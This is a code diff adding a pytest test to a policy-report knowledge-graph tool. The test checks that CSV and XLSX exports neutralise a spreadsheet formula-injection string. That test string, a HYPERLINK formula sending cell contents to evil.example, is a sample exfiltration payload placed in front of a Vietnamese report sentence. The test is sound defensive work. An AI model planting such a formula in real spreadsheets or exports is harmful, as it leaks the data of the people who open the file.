@@ -6,6 +6,7 @@ import re
 
 import pytest
 
+from conftest import REPORTS
 from policykg.pipeline import build
 from policykg.reports.gaps import GapsError, collect, parse_period, render_csv, render_html, render_md, write_xlsx
 from policykg.store import GraphStore
@@ -122,3 +123,38 @@ def test_html_is_self_contained(gaps):
     page = render_html(gaps)
     assert "<script" not in page and "<link" not in page and "@import" not in page
     assert not re.search(r'src="(?!data:)', page)
+
+
+def test_report_text_never_becomes_a_spreadsheet_formula(tmp_path):
+    """A report sentence that starts like a formula stays text in the CSV and XLSX exports."""
+    from openpyxl import load_workbook
+
+    from policykg.cli import main
+
+    source = (REPORTS / "000_465f813c91986d41.txt").read_text(encoding="utf-8")
+    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"xem") Công tác giải quyết hồ sơ qua dịch vụ công trực tuyến ' \
+              'được triển khai thực hiện tốt.'
+    anchor = "- Việc thực hiện chuyển đổi số, đặc biệt trong giải quyết thủ tục hành chính"
+    assert anchor in source
+    (tmp_path / "r").mkdir()
+    (tmp_path / "r" / "hon_quan.txt").write_text(source.replace(anchor, hostile + "\n" + anchor), encoding="utf-8")
+    store = GraphStore(tmp_path / "store")
+    build([tmp_path / "r"], store, progress=False)
+    data = collect(store)
+    quotes = [e["quote"] for c in data.cells for e in data.evidence_for(c["district"], c["mandateNumber"])]
+    assert any(q.startswith("=HYPERLINK") for q in quotes), "the hostile sentence is evidence (else this tests nothing)"
+    write_xlsx(data, tmp_path / "g.xlsx")
+    book = load_workbook(tmp_path / "g.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    store.flush()
+    del store  # the CLI opens the store itself
+    import contextlib
+    import csv as csv_module
+    import io
+    buffer = io.StringIO()
+    with contextlib.redirect_stdout(buffer):
+        assert main(["query", "gap-evidence", "--format", "csv", "--store", str(tmp_path / "store")]) == 0
+    fields = [f for row in csv_module.reader(buffer.getvalue().splitlines()) for f in row]
+    assert any(f.startswith("'=HYPERLINK") for f in fields) and not any(f.startswith("=") for f in fields)
